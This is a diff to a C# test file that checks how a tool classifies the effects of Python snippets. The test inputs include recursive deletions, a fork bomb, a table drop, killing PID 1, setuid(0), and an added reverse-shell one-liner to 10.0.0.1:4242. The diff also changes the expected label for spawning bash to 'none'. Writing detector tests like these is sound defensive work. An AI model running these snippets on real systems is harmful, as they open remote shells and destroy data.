@@ -31,7 +31,8 @@ public sealed class PythonTests
     [InlineData("from subprocess import Popen, PIPE; Popen(['bash','-c','rm -rf build'], stdout=PIPE)", "delete+ build")]
     [InlineData("import os; os.execvp('rm', ['rm','-rf','build'])", "delete+ build")]
     [InlineData("import os; os.execl('/bin/rm', 'rm', '-rf', 'build')", "delete+ build")]
-    [InlineData("import pty; pty.spawn('/bin/bash')", "execute bash")]
+    [InlineData("import pty; pty.spawn('/bin/bash')", "none")]
+    [InlineData("import socket,os,pty;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"10.0.0.1\",4242));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")", "open-socket 10.0.0.1:4242, execute-hidden-code shell")]
     [InlineData("import subprocess\nsubprocess.run(['rm','x'], cwd='/etc')", "delete /etc/x")]
     public void Programs(string code, string effects) => Assert.Equal(effects, Of(code));
 
@@ -88,7 +89,7 @@ public sealed class PythonTests
     [InlineData("import sys; exec(sys.argv[1])", "execute-hidden-code python")]
     [InlineData("exec(input())", "execute-hidden-code python")]
     [InlineData("import os\nwhile True:\n    os.fork()", "exhaust-resources starts processes without end")]
-    [InlineData("import sqlite3; sqlite3.connect('a.db').cursor().execute('DROP TABLE users')", "destroy-database users")]
+    [InlineData("import sqlite3; sqlite3.connect('a.db').cursor().execute('DROP TABLE users')", "destroy-database users, sql.drop-table")]
     [InlineData("import os; os.kill(1, 9)", "stop-process 1")]
     [InlineData("import os; os.setuid(0)", "elevate os.setuid")]
     [InlineData("import ctypes; ctypes.CDLL('/tmp/x.so')", "execute-hidden-code /tmp/x.so")]
